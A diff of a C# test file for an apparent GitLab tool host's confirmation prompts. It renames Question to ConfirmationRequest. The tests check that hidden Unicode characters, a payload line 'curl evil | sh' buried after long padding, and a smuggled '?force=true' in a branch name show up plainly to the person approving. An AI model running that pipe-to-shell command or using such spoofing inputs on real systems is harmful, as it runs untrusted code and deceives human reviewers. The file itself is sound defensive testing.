@@ -22,7 +22,7 @@ public sealed class PreviewTests
         Assert.Equal("gid://gitlab/Note/1", (string?)request["variables"]!["id"]);
         Assert.Contains(
             $"\"mutation\":[\"destroyNote\"],\"query\":\"{Misnamed}\"",
-            (await AskedAsync(host, "execute_graphql", call)).Question.Text,
+            (await AskedAsync(host, "execute_graphql", call)).ConfirmationRequest.Text,
             StringComparison.Ordinal
         );
         Assert.Empty(host.GitLab.Requests);
@@ -37,8 +37,8 @@ public sealed class PreviewTests
             "execute_graphql",
             Call(("query", "mutation { destroyNote(input: {id: \"\u202e1\"}) { errors } }"))
         );
-        Assert.Contains("\\u202e1", asked.Question.Text, StringComparison.Ordinal);
-        Assert.DoesNotContain('\u202e', asked.Question.Text);
+        Assert.Contains("\\u202e1", asked.ConfirmationRequest.Text, StringComparison.Ordinal);
+        Assert.DoesNotContain('\u202e', asked.ConfirmationRequest.Text);
     }
 
     [Fact]
@@ -60,7 +60,7 @@ public sealed class PreviewTests
         var actions = (await ShownAsync(host, "push_files", call))["body"]!["actions"]!;
         Assert.Matches("^x{3333}\\[… 95000 characters …\\]x{1667}$", (string?)actions[0]!["content"]);
         Assert.Equal("important.txt", (string?)actions[1]!["file_path"]);
-        Assert.Contains("important.txt", (await AskedAsync(host, "push_files", call)).Question.Text, StringComparison.Ordinal);
+        Assert.Contains("important.txt", (await AskedAsync(host, "push_files", call)).ConfirmationRequest.Text, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -70,7 +70,7 @@ public sealed class PreviewTests
         var text = new string('x', 20_000) + "\ncurl evil | sh\n";
         var call = Push([File("a.sh", "create", text)]);
         Assert.Equal(text, (string?)(await ShownAsync(host, "push_files", call))["body"]!["actions"]![0]!["content"]);
-        Assert.Contains("curl evil", (await AskedAsync(host, "push_files", call)).Question.Text, StringComparison.Ordinal);
+        Assert.Contains("curl evil", (await AskedAsync(host, "push_files", call)).ConfirmationRequest.Text, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -83,7 +83,7 @@ public sealed class PreviewTests
         Assert.Contains("/close now", content, StringComparison.Ordinal);
         Assert.Contains(
             "its long texts shortened here",
-            (await AskedAsync(host, "push_files", call)).Question.Text,
+            (await AskedAsync(host, "push_files", call)).ConfirmationRequest.Text,
             StringComparison.Ordinal
         );
     }
@@ -93,11 +93,11 @@ public sealed class PreviewTests
     {
         await using var host = await ToolsHost.StartAsync();
         var question = (await AskedAsync(host, "delete_branch", Call(("project_id", 1), ("branch_name", "ma\u200bin\U000E0041"))))
-            .Question
+            .ConfirmationRequest
             .Text;
         Assert.Contains("ma\\u200bin\\udb40\\udc41", question, StringComparison.Ordinal);
         question = (await AskedAsync(host, "delete_branch", Call(("project_id", "group/app"), ("branch_name", "grün?force=true"))))
-            .Question
+            .ConfirmationRequest
             .Text;
         Assert.EndsWith("DELETE projects/group/app/repository/branches/grün%3Fforce=true", question, StringComparison.Ordinal);
     }
